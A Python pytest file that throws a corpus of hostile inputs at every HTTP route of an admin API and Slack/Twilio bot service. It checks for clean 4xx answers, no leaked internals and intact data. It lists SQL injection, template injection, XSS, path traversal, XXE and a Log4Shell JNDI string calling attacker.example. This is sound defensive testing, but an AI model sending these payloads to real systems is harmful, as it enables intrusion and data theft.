"""A corpus of bad input thrown at every HTTP surface: each answer is a 4xx with a reason
(or a 2xx where the input is legitimately fine), never a 5xx, never internal detail, and
the data is intact afterwards."""

from __future__ import annotations

import json
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from urllib.parse import quote

import pytest
from sqlalchemy import text

from admin_api.auth import RateLimiter
from admin_api.openapi import operations
from admin_api.routes import RESOURCES
from tests.bot.slack_harness import signed_headers
from tests.security.app import (
    ADMIN_HEADERS,
    SIGNING_SECRET,
    Surface,
    twilio_signature,
    whole_app,
)
from tests.support.fake_slack import running_fake_slack
from tests.support.postgres import TestPostgres

HOSTILE = [
    "'; DROP TABLE learners;--",
    "1 OR 1=1",
    "{{7*7}}",
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a\u0000b",
    "\u202eevil\u202c.exe",
    "🙂🎓💳" * 50,
    "x" * 10_000,
    "../../../../etc/passwd",
    "%s%s%s%n",
]
# Bodies whose bytes are broken before any field is read.
RAW_BODIES: list[tuple[str, bytes]] = [
    ("application/json", b"{not json"),
    ("application/json", b""),
    ("application/json", b"null"),
    ("application/json", b"[]"),
    ("application/json", b'"just a string"'),
    ("application/json", b'{"name": "\\ud800 lone surrogate"}'),
    ("application/json", b'{"name": "nul \\u0000 inside"}'),
    ("application/json", b"\xff\xfe\x00garbage"),
    ("application/json", b'{"a":' * 5000 + b"1" + b"}" * 5000),
    ("text/plain", b"hello"),
    ("application/xml", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///'>]>"),
    ("application/x-www-form-urlencoded", b"a=%ZZ&&=&payload=%7B"),
    ("multipart/form-data; boundary=xyz", b"--xyz\r\nnot a part\r\n"),
]
OVERSIZED = ("application/json", b'{"name": "' + b"A" * 3_000_000 + b'"}')
LEAKS = ("Traceback", 'File "', "sqlalchemy", "asyncpg", "psycopg", "Exception", "site-packages")


@dataclass
class Route:
    method: str
    path: str
    admin: bool = False
    fields: list[str] = field(default_factory=list)


# Every HTTP surface of `bmo serve`; {id} segments get hostile values too.
SURFACES = [
    Route("GET", "/health"),
    Route("GET", "/ready"),
    Route("GET", "/metrics"),
    Route("GET", "/playground"),
    Route("POST", "/playground/send", fields=["kind", "text", "value"]),
    Route("GET", "/playground/messages?since={id}"),
    Route("GET", "/api/v1/health", admin=True),
    Route("GET", "/api/v1/status", admin=True),
    Route("GET", "/api/v1/learners?limit={id}&status={id}", admin=True),
    Route(
        "POST",
        "/api/v1/learners",
        admin=True,
        fields=["name", "email", "phone", "timezone", "slack_user_id", "preferred_channel"],
    ),
    Route("GET", "/api/v1/learners/{id}", admin=True),
    Route("PATCH", "/api/v1/learners/{id}", admin=True, fields=["name", "timezone", "status"]),
    Route("DELETE", "/api/v1/learners/{id}", admin=True),
    Route("GET", "/api/v1/learners/{id}/progress", admin=True),
    Route("GET", "/api/v1/learners/{id}/enrollments", admin=True),
    Route("POST", "/api/v1/learners/{id}/enrollments", admin=True, fields=["track"]),
    Route("POST", "/api/v1/quiz_responses", admin=True, fields=["learner_id", "question_id"]),
    Route("GET", "/api/v1/analytics/dashboard?days={id}", admin=True),
    Route("POST", "/api/v1/generate-lesson", admin=True, fields=["topic", "learner_id"]),
    Route("POST", "/api/v1/validate-safety", admin=True, fields=["text"]),
    Route("POST", "/api/v1/ingest-documents", admin=True, fields=["paths", "path"]),
    Route("GET", "/api/v1/jobs/{id}", admin=True),
    Route("GET", "/api/v1/documents?limit={id}", admin=True),
    Route("POST", "/api/v1/documents", admin=True, fields=["name", "content"]),
    Route("GET", "/api/v1/documents/{id}/original", admin=True),
    Route("GET", "/api/v1/quarantine?limit={id}&offset={id}", admin=True),
    Route("POST", "/api/v1/quarantine/{id}/release", admin=True),
    Route("POST", "/api/v1/curriculum", admin=True, fields=["yaml", "tracks"]),
    Route("GET", "/api/v1/exports/quiz_responses.csv?since={id}", admin=True),
    Route("GET", "/api/v1/exports/xapi?since={id}&cursor={id}", admin=True),
    Route("GET", "/api/v1/topics?limit={id}&offset={id}", admin=True),
    Route("GET", "/api/v1/reviews?status={id}&limit={id}&offset={id}", admin=True),
    Route("GET", "/api/v1/reviews/{id}", admin=True),
    Route(
        "PATCH",
        "/api/v1/reviews/{id}",
        admin=True,
        fields=["title", "body", "key_points", "scenario", "questions"],
    ),
    Route("POST", "/api/v1/reviews/{id}/approve", admin=True),
    Route("POST", "/api/v1/reviews/{id}/reject", admin=True, fields=["reason"]),
    Route("POST", "/slack/events", fields=["type", "token", "challenge"]),
    Route("POST", "/sms/inbound", fields=["From", "Body", "To"]),
    Route("POST", "/sms/status?delivery_id={id}", fields=["MessageSid", "MessageStatus"]),
]


def test_the_corpus_covers_every_admin_endpoint() -> None:
    declared = {(r.method, r.path.split("?")[0]) for r in SURFACES}
    for resource, method, _operation in operations(RESOURCES):
        path = "/api/v1" + re.sub(r"\{[^}]+\}", "{id}", resource.path)
        assert (method.upper(), path) in declared, (method, path)


@pytest.fixture(scope="module")
async def surface(
    postgres: TestPostgres, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Surface]:
    url = postgres.fresh_database()
    with running_fake_slack() as fake:
        async with whole_app(url, fake, tmp_path_factory.mktemp("data")) as app:
            # thousands of requests in a minute here; the limit itself is tested elsewhere
            app.services.admin.limiter = RateLimiter(1_000_000)
            app.services.admin.failed_keys = RateLimiter(1_000_000)
            yield app
    postgres.drop(url)


def check(response_status: int, body: str, where: str) -> None:
    assert response_status < 500, f"{where}: {response_status} {body[:300]}"
    for leak in LEAKS:
        assert leak not in body, f"{where}: leaks {leak!r}: {body[:300]}"
    if 400 <= response_status < 500 and response_status not in (404, 405):
        assert body.strip(), f"{where}: {response_status} without a reason"


def headers_for(route: Route, content_type: str, body: bytes) -> dict[str, str]:
    headers = {"Content-Type": content_type}
    if route.admin:
        headers.update(ADMIN_HEADERS)
    if route.path == "/slack/events":
        headers.update(signed_headers(body.decode("utf-8", "replace"), SIGNING_SECRET))
    return headers


def sms_form(route: Route, value: str) -> tuple[str, dict[str, str]]:
    """A validly signed Twilio form carrying the hostile value in every field."""
    path = route.path.replace("{id}", quote(value[:2000], safe=""))
    form = {name: value for name in route.fields}
    if route.path.startswith("/sms/status"):
        form["MessageStatus"] = "failed" if value.isascii() else value
    return path, {**form, "_signature": twilio_signature(path, form)}


@pytest.mark.parametrize("route", SURFACES, ids=lambda r: f"{r.method} {r.path.split('?')[0]}")
async def test_every_surface_answers_bad_input_with_a_clear_4xx_and_no_internals(
    surface: Surface, route: Route
) -> None:
    client = surface.client
    sent = 0
    for value in [*HOSTILE, "-1", "99999999999999999999", "²³"]:
        path = route.path.replace("{id}", quote(value[:2000], safe=""))
        if route.path.startswith("/sms/"):
            path, form = sms_form(route, value)
            signature = form.pop("_signature")
            for headers in (
                {"X-Twilio-Signature": signature},
                {"X-Twilio-Signature": "forged"},
                {},
            ):
                response = await client.post(path, data=form, headers=headers)
                check(response.status_code, response.text, f"POST {path[:60]} {value[:30]!r}")
                if "X-Twilio-Signature" not in headers or headers["X-Twilio-Signature"] == "forged":
                    assert response.status_code == 403, response.text
                sent += 1
        if route.method in ("GET", "DELETE"):
            response = await client.request(
                route.method, path, headers=headers_for(route, "application/json", b"")
            )
            check(response.status_code, response.text, f"{route.method} {path[:80]}")
            sent += 1
            continue
        payload = json.dumps({name: value for name in route.fields or ["value"]}).encode()
        response = await client.request(
            route.method,
            path,
            content=payload,
            headers=headers_for(route, "application/json", payload),
        )
        check(response.status_code, response.text, f"{route.method} {path[:60]} {value[:30]!r}")
        sent += 1
        if "{id}" in route.path:
            continue
        for content_type, raw in [*RAW_BODIES, OVERSIZED]:
            response = await client.request(
                route.method, path, content=raw, headers=headers_for(route, content_type, raw)
            )
            check(response.status_code, response.text, f"{route.method} {path} {raw[:30]!r}")
            if raw is OVERSIZED[1] and route.admin:
                assert response.status_code in (413, 415), response.text
            sent += 1
    assert sent >= len(HOSTILE)


@pytest.mark.parametrize(
    "route", [r for r in SURFACES if r.admin and r.path != "/api/v1/health"], ids=lambda r: r.path
)
async def test_admin_routes_refuse_missing_or_forged_keys_with_401(
    surface: Surface, route: Route
) -> None:
    path = route.path.replace("{id}", "1")
    for headers in ({}, {"Authorization": "Bearer adm-forged"}, {"Authorization": "Basic Og=="}):
        response = await surface.client.request(route.method, path, headers=headers, json={})
        assert response.status_code == 401, (path, response.text)
        check(response.status_code, response.text, path)


async def test_slack_events_without_a_valid_signature_are_refused(surface: Surface) -> None:
    body = json.dumps({"type": "event_callback", "event_id": "Ev1", "event": {"type": "message"}})
    cases = [
        {},
        {"X-Slack-Request-Timestamp": "1", "X-Slack-Signature": "v0=deadbeef"},
        signed_headers(body, "the-wrong-secret"),
        signed_headers(body, SIGNING_SECRET, at=1_000_000),  # replayed from long ago
        {"X-Slack-Request-Timestamp": "'; DROP TABLE learners;--", "X-Slack-Signature": "{{7*7}}"},
    ]
    for headers in cases:
        response = await surface.client.post(
            "/slack/events",
            content=body,
            headers={"Content-Type": "application/json", **headers},
        )
        assert response.status_code == 401, (headers, response.text)


async def test_hostile_values_are_stored_as_inert_data_and_every_table_survives(
    surface: Surface,
) -> None:
    hostile_name = "<script>alert(1)</script> '; DROP TABLE learners;-- {{7*7}}"
    created = await surface.client.post(
        "/api/v1/learners",
        json={"name": hostile_name, "email": "robert.tables@example.com", "timezone": "UTC"},
        headers=ADMIN_HEADERS,
    )
    assert created.status_code == 201, created.text
    learner = created.json()
    fetched = await surface.client.get(f"/api/v1/learners/{learner['id']}", headers=ADMIN_HEADERS)
    assert fetched.headers["content-type"].startswith("application/json")
    assert fetched.json()["name"] == hostile_name  # stored verbatim, not evaluated ("49")
    async with surface.services.sessions() as session:
        tables: set[str] = set(
            (
                await session.execute(
                    text("SELECT tablename FROM pg_tables WHERE schemaname = 'public'")
                )
            ).scalars()
        )
        assert {"learners", "lessons", "questions", "chunks", "deliveries", "audit_log"} <= tables
        names: list[str] = list(
            (await session.execute(text("SELECT name FROM learners"))).scalars()
        )
    assert hostile_name in names
    # The dashboard page is static and draws data as text; it never inlines stored values.
    page = await surface.client.get("/admin/")
    assert hostile_name not in page.text and "<script>alert(1)" not in page.text


async def test_slack_click_with_a_forged_button_value_is_a_400(surface: Surface) -> None:
    payload = {
        "type": "block_actions",
        "user": {"id": "U1", "team_id": "T1"},
        "team": {"id": "T1"},
        "actions": [
            {"action_id": "answer_0", "value": "'; DROP TABLE learners;--", "type": "button"}
        ],
    }
    body = "payload=" + quote(json.dumps(payload))
    response = await surface.client.post(
        "/slack/events",
        content=body,
        headers={
            "Content-Type": "application/x-www-form-urlencoded",
            **signed_headers(body, SIGNING_SECRET),
        },
    )
    assert 200 <= response.status_code < 500, response.text
    check(response.status_code, response.text, "forged click")
